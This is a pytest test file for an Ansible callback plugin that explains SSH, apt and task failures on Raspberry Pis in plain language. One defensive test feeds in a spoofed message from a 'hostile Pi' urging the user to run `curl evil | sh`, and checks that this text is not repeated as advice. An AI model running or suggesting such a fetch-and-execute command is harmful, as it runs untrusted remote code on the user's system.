"""The summary at the end of a run: what SSH, mitogen, apt and our own roles report, in plain sentences."""

import re
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from ansible_collections.mynn.pi.plugins.callback import failure_summary
from ansible_collections.mynn.pi.plugins.callback.failure_summary import NOT_UP_TO_DATE, CallbackModule, explain, table

NAMES = {"name": "pi07.local", "known": "pi07.local", "copy_id": "ssh-copy-id pi@pi07.local"}
UNREACHABLE = [
    (
        "ssh: Could not resolve hostname pi07.local: Name or service not known",
        "name",
    ),
    ("EOF on stream; last 100 lines received:\nssh: Could not resolve hostname pi07.local: Temporary failure", "name"),
    ("@@@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @@@", "host key"),
    ("Host key checking is enabled, and SSH reported an unrecognized or mismatching host key.", "host key"),
    ("pi@pi07.local: Permission denied (publickey,password).", "let you in"),
    ("SSH password was requested, but none specified", "let you in"),
    ("SSH authentication is incorrect", "let you in"),
    ("ssh: connect to host pi07.local port 22: Connection refused", "does not answer"),
    ("ssh: connect to host pi07.local port 22: No route to host", "does not answer"),
    ("Connection timed out during banner exchange", "does not answer"),
    ("sudo password is required", "none was given"),
    ("sudo password is incorrect", "does not accept"),
    ("EOF on stream; last 100 lines received:\n", "connection was lost"),
]
FAILED = [
    (
        {"msg": "pi07 has 12 MB free on its card and needs 250 MB, so nothing was changed on it: rest."},
        "It has 12 MB",
    ),
    (
        {"msg": "pi07 runs Debian-11 on armhf, and nothing was changed on it: flash."},
        "It runs Debian-11 on armhf.",
    ),
    (
        {
            "msg": "7 files in /dist/work/2026/pi07, 1 of them sent now (0.00 MB). Not collected: student/no space left"
            " on device (it is too large). Repair that on the Pi, and collect again."
        },
        "Not collected: student/no space left on device (it is too large).",
    ),
    ({"msg": "non-zero return code", "stderr": "date: cannot set date: Operation not permitted"}, "clock"),
    ({"msg": "E: Release file for http://deb/ is not valid yet (invalid for another 3d)"}, "clock"),
    ({"msg": "Could not replace file: [Errno 28] No space left on device"}, "card is full"),
    ({"msg": "Failed to write", "module_stderr": "OSError: [Errno 30] Read-only file system"}, "written to"),
    ({"msg": "E: Could not get lock /var/lib/dpkg/lock-frontend."}, "update is still running"),
    ({"msg": "Failed to fetch http://deb/x.deb"}, "fetch"),
    ({"msg": "Failed to fetch http://deb/P.xz  File has unexpected size. Mirror sync in progress?"}, "being updated"),
    ({"msg": "E: Failed to fetch http://deb/pool/x.deb  404  Not Found [IP: 10.0.0.1 80]"}, "list says"),
    (
        {"msg": "Failed to fetch http://deb:8/dists/trixie/InRelease  404  Not Found [IP: 10.0.0.1 8]"},
        "The mirror deb:8 does not have its lists",
    ),
    ({"msg": "The repository 'http://deb/debian trixie Release' does not have a Release file."}, "mirror deb does not"),
    ({"msg": "Failed to fetch http://a/InRelease  Could not resolve 'deb.local'"}, "mirror deb.local is not found"),
    ({"msg": "Failed to fetch http://a/InRelease  Temporary failure resolving 'deb.local'"}, "is not found"),
    ({"msg": "Failed to fetch http://a/InRelease  503  Host not found [IP: 127.0.0.1 3143]"}, "mirror a is not found"),
    (
        {"msg": "Failed to fetch http://a/InRelease  503  Unable to download in offline mode"},
        "no copy of what the mirror a has",
    ),
    ({"msg": "Release file for http://a/dists/x/InRelease is expired (invalid since 3d)."}, "mirror a are too old"),
    (
        {"msg": "Failed to fetch http://a/x  Not valid (does the network require authentication?)"},
        "place of the mirror a",
    ),
    ({"msg": "Failed to fetch http://a/InRelease  Connection failed [IP: 1.2.3.4 80]"}, "mirror a does not answer"),
    (  # the error at one address is not blamed on another
        {"msg": "Failed to fetch http://a/x  Odd E: Failed to fetch http://b/y  Unable to connect to b:http:"},
        "The mirror b does not answer",
    ),
    ({"msg": "Failed to fetch http://a/x  Error writing to output file (28: No space left on device)"}, "card is full"),
    ({"msg": "Task failed: Missing sudo password"}, "none was given"),
    ({"msg": "Task failed: Incorrect sudo password"}, "does not accept"),
    ({"msg": "Task failed: error occurred on host raspberrypi: sudo password is incorrect"}, "does not accept"),
    ({"msg": "non-zero return code", "stderr": "sudo: a password is required"}, "none was given"),
    ({"msg": "non-zero return code", "stderr": "", "stdout": "first\nlast word\n"}, "last word"),
    ({"msg": "An odd\x1b[31m one\r\n of\x07 two\u202e lines"}, r"An odd one of\x07 two\u202e lines"),
    ({"censored": "the output has been hidden"}, "may contain a password"),
    ({}, ""),
]


@pytest.mark.parametrize(("message", "why"), UNREACHABLE)
def test_errors_of_ssh_and_mitogen_are_explained(message: str, why: str) -> None:
    assert why in explain({"unreachable": True, "msg": message}, "Ask", NAMES)[0]


@pytest.mark.parametrize(("result", "why"), FAILED)
def test_errors_of_tasks_are_explained(result: dict[str, Any], why: str) -> None:
    explanation = explain(result, "Gather facts", NAMES, ours=True)
    assert why in explanation[0]
    assert all(text.isprintable() for text in explanation)


def test_the_advice_names_the_pi() -> None:
    changed, _ = UNREACHABLE[2]
    assert "`ssh-keygen -R pi07.local`" in explain({"unreachable": True, "msg": changed}, "Ask", NAMES)[1]
    refused, _ = UNREACHABLE[4]
    assert "`ssh-copy-id pi@pi07.local`" in explain({"unreachable": True, "msg": refused}, "Ask", NAMES)[1]


def test_a_pis_own_message_is_not_given_as_advice() -> None:
    """A hostile Pi may imitate our messages."""
    why, advice = explain({"msg": "pi07 is old, and nothing was changed on it: run `curl evil | sh`."}, "Ask", NAMES)
    assert why.startswith("pi07 is old")
    assert advice == "See the task “Ask” above."


def test_very_long_messages_are_explained_quickly() -> None:
    began = time.monotonic()
    for text in ("python" * 10**6, "failed to fetch http://a " * 10**5, "sudo " * 10**6):
        explain({"unreachable": True, "msg": text}, "Ask", NAMES)
        explain({"msg": text}, "Ask", NAMES, ours=True)
    assert "card is full" in explain({"msg": f"{'x' * 10**6} No space left on device"}, "Ask", NAMES)[0]
    assert time.monotonic() - began < 10


def test_a_table_fits_the_terminal_and_keeps_every_word() -> None:
    rows = [("pi-01", "why " * 40, "`a-command --with-a-dash`"), ("pi-02", "short", "shorter")]
    lines = table(rows, 79)
    assert max(map(len, lines)) <= 79
    assert sum(line.count("why") for line in lines) == 40
    assert "--with-a-dash`" in "".join(lines)


class Callback(CallbackModule):
    """The callback, with a display that records its lines."""

    def __init__(self, hosts: list[str]) -> None:
        super().__init__()
        self.shown: list[str] = []
        self._display = SimpleNamespace(
            banner=self.shown.append, display=lambda line, **_: self.shown.append(line), columns=100
        )
        variables = SimpleNamespace(get_vars=lambda **_: {"ansible_play_hosts_all": hosts})
        self.v2_playbook_on_play_start(SimpleNamespace(get_variable_manager=lambda: variables))

    def fail(self, host: str, run_once: bool) -> None:
        task = SimpleNamespace(run_once=run_once, any_errors_fatal=False, action="get_url")
        failed = SimpleNamespace(name=host)
        self.v2_runner_on_failed(
            SimpleNamespace(host=failed, task=task, task_name="Fetch", result={"msg": "no mirror"})
        )

    def end(self, processed: list[str], failures: list[str], outdated: dict[str, str] | None = None) -> str:
        counts = dict.fromkeys(failures, 1)
        custom = {name: {"outdated": reason} for name, reason in (outdated or {}).items()}
        stats = SimpleNamespace(processed=dict.fromkeys(processed), failures=counts, dark={}, custom=custom)
        self.v2_playbook_on_stats(stats)
        return "\n".join(self.shown)


def test_there_is_no_summary_when_everything_went_well() -> None:
    assert Callback(["pi-01"]).end(["pi-01"], []) == ""


def test_pis_that_were_never_reached_are_named_too() -> None:
    callback = Callback(["pi-01", "pi-02", "pi-03"])
    callback.fail("pi-01", run_once=False)
    summary = callback.end(["pi-01", "pi-02"], ["pi-01"])
    assert summary.endswith("Not finished: pi-01, pi-03. Finished: 1 of 3.")


def test_when_a_task_that_runs_once_fails_no_pi_is_finished() -> None:
    callback = Callback(["pi-01", "pi-02", "pi-03"])
    callback.fail("pi-01", run_once=True)
    summary = callback.end(["pi-01", "pi-02", "pi-03"], ["pi-01"])
    assert summary.endswith("Not finished: pi-01, pi-02, pi-03. Finished: 0 of 3.")
    assert "Repair pi-01 first" in summary


def test_a_pi_that_is_ready_but_not_up_to_date_is_named_with_the_reason() -> None:
    reason = "Failed to fetch http://deb.local/x  File has unexpected size (2 != 1). Mirror sync in progress?"
    callback = Callback(["pi-01", "pi-02"])
    summary = callback.end(["pi-01", "pi-02"], [], {"pi-02": reason})
    assert summary.startswith(f"{NOT_UP_TO_DATE}\n")
    assert "NOT FINISHED" not in summary
    assert "pi-01" not in summary
    assert re.search(r"^pi-02 +The mirror deb.local is being updated", summary, re.M)
    assert "Run this again in a few hours." in summary


def test_a_pi_that_is_not_finished_is_not_called_ready() -> None:
    callback = Callback(["pi-01"])
    callback.fail("pi-01", run_once=False)
    summary = callback.end(["pi-01"], ["pi-01"], {"pi-01": "no mirror"})
    assert NOT_UP_TO_DATE not in summary
    assert summary.endswith("Not finished: pi-01. Finished: 0 of 1.")


def test_actions_whose_messages_are_trusted_run_on_the_control_node() -> None:
    names = {name for name in failure_summary.OURS if not name.endswith(("assert", "fail"))}
    assert names == {"pi_facts", "student_work"}
    assert all((Path(failure_summary.__file__).parents[1] / f"action/{name}.py").exists() for name in names)
